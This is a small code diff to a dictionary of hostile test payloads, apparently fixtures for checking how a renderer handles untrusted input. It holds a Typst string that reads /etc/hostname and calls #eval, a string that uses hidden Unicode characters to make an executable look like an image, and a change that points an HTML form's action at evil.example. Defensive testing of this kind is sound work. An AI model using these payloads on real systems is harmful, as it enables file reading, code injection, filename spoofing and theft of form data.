@@ -37,7 +37,7 @@ PAYLOADS = {
     "typst": '#read("/etc/hostname") #include "report.typ" #import "@preview/cetz:0.3.0" $x^2$ ```typ #read``` '
     '#eval("40+2") #sys.version @label <label> \\u{41} #image("0.jpg") /* c */ // d',
     "unseen": "a\u202egnp.exe\u2066b\u200b\u2060c\ufeffd\x00\x1b[31m\x07e\u2028f",
-    "view": VIEW_FIELD.decode() + '<form method="post" data-goes="https://evil.example">',
+    "view": VIEW_FIELD.decode() + '<form method="post" action="https://evil.example">',
 }
 Rendered = dict[str, bytes]
 
